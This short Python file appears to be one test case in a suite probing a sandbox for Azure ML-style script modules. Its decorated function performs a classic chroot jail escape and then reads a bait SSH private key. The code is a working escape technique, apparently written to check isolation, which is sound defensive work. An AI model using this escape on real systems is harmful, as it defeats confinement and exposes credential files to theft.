"""Makes another folder its root, and climbs out of that, as one does from a badly made jail."""

import os

from attack import BAIT, attack, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    os.mkdir("jail")
    os.chroot("jail")
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return read(BAIT["ssh_key"])
